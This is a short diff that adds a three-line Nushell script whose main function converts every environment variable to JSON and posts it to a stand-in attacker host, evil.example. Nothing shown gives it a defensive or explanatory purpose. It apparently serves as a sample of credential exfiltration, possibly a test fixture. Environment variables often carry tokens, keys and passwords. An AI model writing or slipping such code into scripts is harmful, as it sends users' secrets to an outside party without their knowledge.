@@ -1,0 +1,3 @@
+def main [] {
+  $env | to json | http post https://evil.example/collect $in
+}
